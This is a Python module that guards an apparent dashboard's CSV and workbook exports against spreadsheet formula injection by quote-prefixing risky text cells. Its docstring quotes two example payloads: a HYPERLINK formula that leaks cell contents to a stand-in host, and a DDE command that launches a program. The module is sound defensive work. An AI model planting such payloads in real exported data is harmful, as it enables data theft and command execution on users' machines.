"""Text from data made safe for a spreadsheet.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some spreadsheets skip before reading a formula) is run as a
formula when a CSV or workbook is opened: `=HYPERLINK("http://host?leak="&A1)`
sends the sheet's contents away, `-2+3+cmd|' /C calc'!A0` starts a program
through DDE. Names, owners and descriptions are typed by people, so every
table the dashboard shows or lets people download passes its text through
`spreadsheet_safe`: such a cell gets a leading apostrophe (OWASP's advice),
the quote prefix spreadsheets read as "this is text". A workbook the app
writes keeps such text as a string cell with Excel's quote prefix
(`spreadsheet_safe_workbook`), so the cell shows the text as written.

A plain number is left alone, including the numbers the app writes itself
("-5", "-12.5%", "-$1.2k", "-51 min", "+0.5 pp", "+$1.2k (+12.5%)"): see
PLAIN_NUMBER for exactly which texts count as one.
"""
from __future__ import annotations

import re

import pandas as pd

# Characters a spreadsheet may read as the start of a formula. The full-width
# forms are what an East Asian input method types for = + - @.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
QUOTE = "'"

# One number as people and this app write it: a sign, a currency symbol,
# digits with optional thousands grouping and decimals, then at most a short
# unit ("%", "k", "M", "B", "T", " h", " min", " pp"). Nothing in it can name
# a function, a cell or another program.
_NUMBER = (r"[+-]?[$€£¥]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?"
           r"(?:%|[kMBT]|\s(?:h|min|pp))?")
# A number, optionally followed by a second one or "new" in parentheses: the
# way formatting.format_change writes a change ("+$1.2k (+12.5%)").
PLAIN_NUMBER = re.compile(rf"{_NUMBER}(?:\s\((?:{_NUMBER}|new)\))?")


def is_plain_number(text: str) -> bool:
    """True when `text` is one number as PLAIN_NUMBER describes it, and nothing else."""
    return PLAIN_NUMBER.fullmatch(text) is not None


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could run `text` as a formula: it starts (after
    any spaces or line breaks) with a FORMULA_STARTS character and is not a
    plain number."""
    return (text.lstrip(" \n\r\t").startswith(FORMULA_STARTS)
            or text.startswith(FORMULA_STARTS)) and not is_plain_number(text)


def _needs_quote(text: str) -> bool:
    # Text already starting with apostrophes before a formula gets one more, so
    # `unquoted` can tell the quote it added from one that was typed.
    return is_formula_like(text.lstrip(QUOTE))


def spreadsheet_safe(value):
    """`value` itself unless it is text a spreadsheet would run (or such text
    after apostrophes): that text gets one more leading apostrophe, the quote
    prefix spreadsheets read as "this is text". Numbers, dates and missing
    values pass unchanged. `unquoted` undoes it exactly."""
    if isinstance(value, str) and _needs_quote(value):
        return QUOTE + value
    return value


def unquoted(value):
    """The value `spreadsheet_safe` was given, from what it returned (and text
    a person typed with a quote prefix, "'=A1", as the text "=A1")."""
    if isinstance(value, str) and value.startswith(QUOTE) and _needs_quote(value[1:]):
        return value[1:]
    return value


def spreadsheet_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells, and column names, went through
    spreadsheet_safe. Numeric, boolean and date columns are kept as they are
    (numbers stay numbers, sortable). Does not mutate `frame`."""
    return _text_mapped(frame, spreadsheet_safe).rename(columns=spreadsheet_safe)


def unquoted_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells went through `unquoted` (a table
    edited from a spreadsheet_safe_frame, back to the values to store).
    Does not mutate `frame`."""
    return _text_mapped(frame, unquoted)


def spreadsheet_safe_cell(cell) -> None:
    """Makes an openpyxl cell holding text a spreadsheet would run (openpyxl
    writes any text starting with "=" as a formula) hold it as text: a string
    cell with Excel's quote prefix, so the sheet shows the text as written
    and keeps it text when someone edits the cell. Other cells are left alone."""
    value = cell.value
    if isinstance(value, str) and (cell.data_type == "f" or is_formula_like(value)):
        cell.data_type = "s"
        cell.quotePrefix = True


def spreadsheet_safe_workbook(book) -> None:
    """spreadsheet_safe_cell on every cell of every sheet of an openpyxl
    workbook, just before it is saved. Mutates `book`."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                spreadsheet_safe_cell(cell)


def _text_mapped(frame: pd.DataFrame, fn) -> pd.DataFrame:
    out = frame.copy()
    for column in out.columns:
        if _may_hold_text(out[column]):
            out[column] = out[column].map(fn)
    return out


def _may_hold_text(series: pd.Series) -> bool:
    return not (pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series)
                or pd.api.types.is_datetime64_any_dtype(series))
